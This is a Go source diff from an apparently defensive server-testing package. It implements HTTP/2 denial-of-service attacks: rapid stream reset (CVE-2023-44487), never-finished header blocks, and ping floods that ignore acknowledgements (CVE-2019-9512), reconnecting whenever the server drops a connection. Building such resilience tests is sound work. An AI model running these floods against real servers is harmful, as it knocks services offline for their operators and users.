@@ -1,18 +1,19 @@
 package attack
 
 import (
+	"errors"
 	"io"
 	"net"
+	"os"
 	"time"
 
 	"github.com/echobench/echobench/internal/rawhttp2"
-	"github.com/echobench/echobench/internal/testkit"
 )
 
 // rapidReset begins requests over HTTP/2 and resets their streams at once
 // (CVE-2023-44487). When the server ends a connection, it continues on another one.
 func rapidReset(a *assault) error {
-	return a.streams(func(b []byte, stream uint32) []byte {
+	return a.frames(true, func(b []byte, stream uint32) []byte {
 		b = append(b, a.wire.http2(0).encode(stream)...)
 		return rawhttp2.AppendFrame(b, rawhttp2.FrameReset, 0, stream, []byte{0, 0, 0, 8}) // CANCEL
 	})
@@ -21,15 +22,22 @@ func rapidReset(a *assault) error {
 // bareHeaders begins requests over HTTP/2 and never continues them.
 func bareHeaders(a *assault) error {
 	headers := rawhttp2.AppendPost(nil, a.wire.http2(64).fields...)
-	return a.streams(func(b []byte, stream uint32) []byte {
+	return a.frames(true, func(b []byte, stream uint32) []byte {
 		return rawhttp2.AppendFrame(b, rawhttp2.FrameHeaders, rawhttp2.FlagEndHeaders, stream, headers)
 	})
 }
 
-// streams sends what more appends for each of n streams, and reads what the server
-// sends.
-func (a *assault) streams(more func(b []byte, stream uint32) []byte) error {
-	const together = 100 // streams in one write
+// pings sends pings and does not read their acknowledgements (CVE-2019-9512).
+func pings(a *assault) error {
+	return a.frames(false, func(b []byte, _ uint32) []byte {
+		return rawhttp2.AppendFrame(b, rawhttp2.FramePing, 0, 0, make([]byte, 8))
+	})
+}
+
+// frames sends what more appends for each of n streams. When the server ends a
+// connection, it continues on another one, until the server reads no more.
+func (a *assault) frames(read bool, more func(b []byte, stream uint32) []byte) error {
+	const together = 100 // in one write
 	var conn net.Conn
 	next := uint32(1)
 	for sent := 0; sent < a.n; sent += together {
@@ -38,8 +46,9 @@ func (a *assault) streams(more func(b []byte, stream uint32) []byte) error {
 			if conn, err = a.dial(); err != nil {
 				return err
 			}
-			reading := conn
-			a.running.Go(func() { io.Copy(io.Discard, reading) })
+			if reading := conn; read {
+				a.running.Go(func() { io.Copy(io.Discard, reading) })
+			}
 			conn.Write([]byte(a.wire.hello))
 			next = 1
 		}
@@ -48,8 +57,11 @@ func (a *assault) streams(more func(b []byte, stream uint32) []byte) error {
 			b = more(b, next)
 			next += 2
 		}
-		conn.SetWriteDeadline(time.Now().Add(testkit.Hang))
-		if _, err := conn.Write(b); err != nil {
+		conn.SetWriteDeadline(time.Now().Add(a.patience))
+		switch _, err := conn.Write(b); {
+		case errors.Is(err, os.ErrDeadlineExceeded):
+			return nil
+		case err != nil:
 			a.close(conn)
 			conn = nil
 		}
